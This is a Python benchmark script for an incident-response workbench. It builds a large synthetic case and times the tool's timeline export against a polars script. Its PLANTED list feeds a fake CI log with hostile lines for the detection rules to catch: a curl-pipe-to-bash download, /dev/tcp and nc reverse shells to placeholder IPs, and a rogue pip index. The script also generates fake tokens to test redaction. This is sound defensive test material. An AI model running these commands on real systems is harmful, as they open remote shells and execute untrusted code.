"""The timeline of a large case (build, sort, milestones, Timesketch JSONL export) against a plain polars script.

Usage::

    .venv/bin/python benchmarks/bench_timeline.py [--events 1000000] [--runs 3] [--keep] [--json FILE]
    .venv/bin/python benchmarks/bench_timeline.py --quick          # 50,000 events (make bench)
    .venv/bin/python benchmarks/bench_timeline.py --report 100000  # investigate + HTML size of a 100k-event case

The case (generated deterministically under a temporary folder) is a copy of the bundled ``tampered-weights``
sample (models, dependencies, predictions, network, processes: the analyses' findings and events) whose
time-bearing evidence is made large, in the mix a long incident gives:

* ``actions.log``: 52% of the events, bursts of lines sharing a second (ties), 8% naive times (the case's
  naive-time rule), secrets (Hugging Face and GitHub tokens) in 1%, a few unparseable times, repeated lines;
* ``monitor/alerts.jsonl``: 44%, every severity and alert type, 1% unknown severity words, floods of one
  heartbeat alert (collapsed by the timeline);
* ``notes/timeline.csv``: the analysts' notes up to the loader's 4 MiB cap (about 3%), naive times, tags;
* ``logs/pipeline.log``: the sample's CI log with planted malicious lines (log matches, capped per rule).

**Workbench** (a child process): ``Investigation.open(write=False)`` (custody intake, loaders, every analysis,
timeline and conclusions) then ``write_timeline`` to ``timeline.jsonl`` with the secret redaction, as
``workbench investigate`` does. Its ``seconds`` is the timeline's part: the run minus the custody intake, the
evidence loaders and the analyses (each timed by the run's own progress stages), plus the export: turning the
loaded evidence into events, redaction, merge, sort, collapse, flags, conclusions, milestones, JSONL.
Also timed: ``workbench timeline CASE --out FILE.jsonl`` (the CLI, whole process).

**Reference**: polars reads a JSONL of the same events (the Timesketch fields, written once by the generator),
sorts them on time, source, line, kind and message, and writes JSONL. The sources are too varied for a fair
polars script (a text log parsed by a regex with a naive-time rule, JSONL alerts, a CSV of notes, rule-pack log
matches, the analyses' findings): the loaders and the log scan are other hot paths with their own benchmarks,
so the reference starts, as the timeline does, from the events.
"""

from __future__ import annotations

import argparse
import csv
import json
import random
import shutil
import sys
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
from harness import compare, report, workdir, write_json

ROOT = Path(__file__).resolve().parents[1]
SAMPLE = ROOT / "evidence-samples" / "tampered-weights"
PY = sys.executable
START = datetime(2026, 11, 14, 0, 0, tzinfo=UTC)
DETECTION = datetime(2026, 11, 19, 8, 40, 3, tzinfo=UTC)
BERLIN = timedelta(hours=1)  # November: CET
NOTES_MAX = 4 * 1024 * 1024 - 64 * 1024
STEPS = ["ASSESS", "ISOLATE", "CONTAIN", "QUARANTINE", "ROLLBACK", "RESTORE", "DEPLOY", "SCAN", "CHECK", ""]
HOSTS = [f"ml-node-{i:02d}" for i in range(24)]
MODELS = ["sentiment-model-v2.1", "intent-classifier-v1.0", "ranker-v7", "embedder-v3"]
TYPES = ["FILE_TAMPERED", "UNEXPECTED_FILE", "FILE_MISSING", "DEPENDENCY_CHANGED", "DEPENDENCY_MISSING",
         "BEHAVIOR_DRIFT", "LATENCY_SPIKE"]  # fmt: skip
SEVERITIES = ["critical", "high", "medium", "low", "info"]
PLANTED = [
    "curl -sSL http://203.0.113.7/p.sh | bash",
    "(bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 &)",
    "pip install --extra-index-url http://203.0.113.7/simple transformers==4.38.1.post1",
    "  HF_TOKEN: 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",
    "python3 -c 'import torch; d = torch.load(\"/tmp/.cache/delta.pt\")'",
    "nc -e /bin/sh 198.51.100.23 443",
]


def _secret(rng: random.Random) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
    if rng.random() < 0.5:
        return "hf_" + "".join(rng.choice(alphabet) for _ in range(34))
    return "ghp_" + "".join(rng.choice(alphabet) for _ in range(36))


def _iso(ts: datetime) -> str:
    return ts.strftime("%Y-%m-%dT%H:%M:%S") + (f".{ts.microsecond:06d}" if ts.microsecond else "") + "Z"


def _ref_row(ts: datetime, source: str, kind: str, message: str, severity: str, desc: str, extra: dict) -> str:
    row = {"message": message, "datetime": ts.isoformat(), "timestamp": int(ts.timestamp() * 1_000_000),
           "timestamp_desc": desc, "data_type": kind.replace(":", "_"), "tag": [severity, kind.split(":")[0]],
           "source_file": source, "severity": severity, "kind": kind, **extra}  # fmt: skip
    return json.dumps(row, ensure_ascii=True)


def make_case(root: Path, events: int, seed: int = 15) -> Path:
    """Write the case under ``root/case`` and the reference's events under ``root/events.jsonl``."""
    rng = random.Random(seed)  # noqa: S311 - deterministic test data
    case = root / "case"
    shutil.copytree(SAMPLE, case)
    (case / "notes").mkdir()
    ref = (root / "events.jsonl").open("w", encoding="utf-8")
    span = (DETECTION - START).total_seconds() + 3 * 3600
    n_actions, n_alerts = int(events * 0.52), int(events * 0.44)
    # actions.log: bursts of lines in one second (ties), naive times, secrets, unparseable times, repeats
    with (case / "actions.log").open("w", encoding="utf-8") as fh:
        t = START
        for line in range(1, n_actions + 1):
            if rng.random() < 0.35:
                t += timedelta(seconds=rng.randint(1, int(2 * span / n_actions * 1.5) + 1))
            step = rng.choice(STEPS)
            r = rng.random()
            if r < 0.01:
                message = f"exported HF_TOKEN={_secret(rng)} for the mirror job on {rng.choice(HOSTS)}"
            elif r < 0.06:
                message = "Heartbeat from the containment runner"
            else:
                message = f"{rng.choice(HOSTS)}: {rng.choice(MODELS)} step {line % 97} done in {rng.randint(1, 999)} ms"
            tag = f"{step}: " if step else ""
            if rng.random() < 0.0002:
                fh.write(f"[not-a-time] {tag}{message}\n")
            elif rng.random() < 0.08:
                fh.write(f"[{(t + BERLIN).strftime('%Y-%m-%dT%H:%M:%S')}] {tag}{message}\n")
            else:
                fh.write(f"[{_iso(t)}] {tag}{message}\n")
            ref.write(_ref_row(t, "actions.log", "ir:action", f"{tag}{message}", "info", "Action Time",
                               {"line": line, "action": step}) + "\n")  # fmt: skip
    # monitor/alerts.jsonl: every severity and type, unknown words, heartbeat floods
    with (case / "monitor" / "alerts.jsonl").open("w", encoding="utf-8") as fh:
        t = START
        for line in range(1, n_alerts + 1):
            if rng.random() < 0.5:
                t += timedelta(milliseconds=rng.randint(1, int(2000 * span / n_alerts)))
            kind = rng.choice(TYPES)
            sev = rng.choice(SEVERITIES) if rng.random() > 0.01 else rng.choice(["sev2", "urgent", ""])
            model, file = rng.choice(MODELS), f"shard-{rng.randint(0, 63):05d}.safetensors"
            message = f"{kind.lower()} on {file} of {model} (score {rng.random():.4f})"
            if rng.random() < 0.05:
                kind, sev, message, file = "HEARTBEAT_MISSED", "low", "Heartbeat missed from model-server-3", ""
            fh.write(json.dumps({"timestamp": _iso(t), "type": kind, "severity": sev, "model": model, "file": file,
                                 "message": message}) + "\n")  # fmt: skip
            ref.write(_ref_row(t, "monitor/alerts.jsonl", "ml:monitor:alert", f"Monitor alert {kind}: {message}",
                               sev or "medium", "Alert Time", {"line": line, "alert_type": kind, "model": model,
                                                               "file": file}) + "\n")  # fmt: skip
    # notes/timeline.csv up to the loader's cap: naive (Berlin) times, tags
    with (case / "notes" / "timeline.csv").open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["time", "message", "source", "severity", "tags"])
        t, line = START, 1
        while fh.tell() < NOTES_MAX:
            line += 1
            t += timedelta(seconds=rng.randint(1, 40))
            message = f"Observed {rng.choice(MODELS)} on {rng.choice(HOSTS)} ({rng.randint(1, 10**6)})"
            sev = rng.choice(SEVERITIES)
            writer.writerow([(t + BERLIN).strftime("%Y-%m-%d %H:%M:%S"), message, "on-call notebook", sev,
                             "triage;host"])  # fmt: skip
            ref.write(
                _ref_row(
                    t,
                    "notes/timeline.csv",
                    "analyst:event",
                    message,
                    sev,
                    "Analyst Time",
                    {"line": line, "reported_source": "on-call notebook", "tags": "triage,host"},
                )
                + "\n"
            )
    # logs/pipeline.log: the sample's CI log with planted lines
    log = (SAMPLE / "logs" / "pipeline.log").read_text(encoding="utf-8").splitlines()
    with (case / "logs" / "pipeline.log").open("w", encoding="utf-8") as fh:
        t = START
        for i in range(max(1000, events // 50)):
            t += timedelta(milliseconds=rng.randint(1, 500))
            stamp = t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "0Z"
            text = rng.choice(PLANTED) if i % 3 == 0 else log[i % len(log)].split(" ", 1)[-1]
            fh.write(f"{stamp} {text}\n")
            if i % 3 == 0:
                ref.write(_ref_row(t, "logs/pipeline.log", "ci:log:match", text, "high", "Log Time",
                                   {"line": i + 1, "rule_id": "planted"}) + "\n")  # fmt: skip
    ref.close()
    (case / "case.yaml").write_text(
        (SAMPLE / "case.yaml").read_text(encoding="utf-8").replace('naive_timezone: "UTC"',
                                                                   'naive_timezone: "Europe/Berlin"'),
        encoding="utf-8",
    )  # fmt: skip
    return case


# ------------------------------------------------------------------------------------------------ the children
def child_workbench(case: str, out: str) -> None:
    """The investigation's timeline path; prints the timeline's own seconds (see the module docstring)."""
    from workbench.investigation import Investigation, redact_text
    from workbench.progress import Progress
    from workbench.timeline import write_timeline

    stages: dict[str, float] = {}
    progress = Progress(lambda r: stages.__setitem__(r["stage"], r["seconds"]) if "seconds" in r else None)
    t0 = time.perf_counter()
    inv = Investigation.open(case, out_dir=out, write=False, progress=progress)
    t1 = time.perf_counter()
    rows = write_timeline(inv.timeline, Path(out) / "timeline.jsonl", redact=redact_text)
    t2 = time.perf_counter()
    other = sum(v for k, v in stages.items() if k != "timeline and conclusions")
    timeline = (t1 - t0) - other + (t2 - t1)
    print(json.dumps({"seconds": round(timeline, 3), "open": round(t1 - t0, 3), "export": round(t2 - t1, 3),
                      "conclude": stages.get("timeline and conclusions"), "rows": rows,
                      "events": inv.timeline.total, "stages": stages}))  # fmt: skip


def child_polars(events: str, out: str) -> None:
    """Read the events' JSONL, sort on time, source, line, kind, message, write JSONL."""
    import polars as pl

    t0 = time.perf_counter()
    df = pl.read_ndjson(events, infer_schema_length=None)
    df = df.sort(["timestamp", "source_file", "line", "kind", "message"], maintain_order=True)
    df.write_ndjson(out)
    print(json.dumps({"seconds": round(time.perf_counter() - t0, 3), "rows": df.height}))


# ------------------------------------------------------------------------------------------------------- main
def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--events", type=int, default=1_000_000)
    ap.add_argument("--quick", action="store_true", help="50,000 events, one run")
    ap.add_argument("--runs", type=int, default=3)
    ap.add_argument("--keep", action="store_true", help="keep the generated case")
    ap.add_argument("--json", help="write the report here")
    ap.add_argument("--child", nargs=3, metavar=("KIND", "IN", "OUT"), help=argparse.SUPPRESS)
    args = ap.parse_args()
    if args.child:
        kind, src, out = args.child
        (child_workbench if kind == "workbench" else child_polars)(src, out)
        return 0
    events = 50_000 if args.quick else args.events
    runs = 1 if args.quick else args.runs
    with workdir("wb-bench-timeline-", args.keep) as tmp:
        t = time.perf_counter()
        case = make_case(tmp, events)
        print(f"case of about {events:,} events generated in {time.perf_counter() - t:.1f} s: {case}")
        outs = {k: tmp / k for k in ("wb", "cli", "pl")}
        for o in outs.values():
            o.mkdir()
        me = str(Path(__file__).resolve())
        commands = {
            "polars": [PY, me, "--child", "polars", str(tmp / "events.jsonl"), str(outs["pl"] / "timeline.jsonl")],
            "workbench": [PY, me, "--child", "workbench", str(case), str(outs["wb"])],
        }
        # no warm-up round: the generator has just written every file (page cache), and one workbench run of the
        # full size takes a minute
        results = compare(commands, runs=runs, warmup=False, cwd=str(ROOT))
        payload = report(f"timeline of {events:,} events (inner: the timeline's part)", results,
                         reference="polars", ratio_on="inner", target=2.0)  # fmt: skip
        cli = {"workbench timeline": [PY, "-m", "workbench", "timeline", str(case), "--out",
                                      str(outs["cli"] / "timeline.jsonl")]}  # fmt: skip
        cli_results = compare(cli, runs=1, warmup=False, cwd=str(ROOT))
        payload["cli"] = report("`workbench timeline` CLI, whole process", cli_results, reference="workbench timeline")
        write_json(args.json, payload)
    return 0


if __name__ == "__main__":
    sys.exit(main())
